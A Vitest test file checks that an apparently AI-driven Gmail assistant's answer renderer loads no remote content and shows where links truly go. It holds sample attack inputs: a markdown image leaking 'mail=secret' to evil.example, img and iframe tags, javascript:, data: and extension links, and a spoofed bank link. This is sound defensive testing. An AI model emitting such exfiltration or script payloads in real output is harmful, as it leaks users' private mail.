import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";

import { Answer } from "./answer.tsx";

const html = (text: string) =>
  renderToStaticMarkup(<Answer text={text} arriving={false} onCite={() => undefined} />);

describe("an answer loads nothing and hides nothing", () => {
  test.each([
    ["an image", "![x](https://evil.example/p.png?mail=secret)"],
    ["an image by reference", "![x][1]\n\n[1]: https://evil.example/p.png"],
    ["HTML", '<img src="https://evil.example/p.png">'],
    ["an HTML block", '<iframe src="https://evil.example/"></iframe>'],
    ["a script link", "[x](javascript:alert(1))"],
    ["a data link", "[x](data:text/html,hi)"],
    ["an extension link", "[x](chrome-extension://abc/panel.html)"],
  ])("%s", (_name, text) => {
    expect(html(text)).not.toMatch(
      /evil\.example|<img|<iframe|javascript:|data:|chrome-extension:/,
    );
  });

  test("a link says where it goes, whatever its text says", () => {
    const shown = html("[https://bank.example](https://evil.example/a?b=c)");
    expect(shown).toContain(">evil.example<");
    expect(shown).not.toContain("bank.example");
    expect(shown).toContain('rel="noopener noreferrer"');
  });

  test("a citation is a button with its number, not a link", () => {
    const shown = html("Open [msg:19d847db53731d21].");
    expect(shown).toContain('aria-label="Show message 1 in Gmail"');
    expect(shown).not.toContain("href");
  });
});
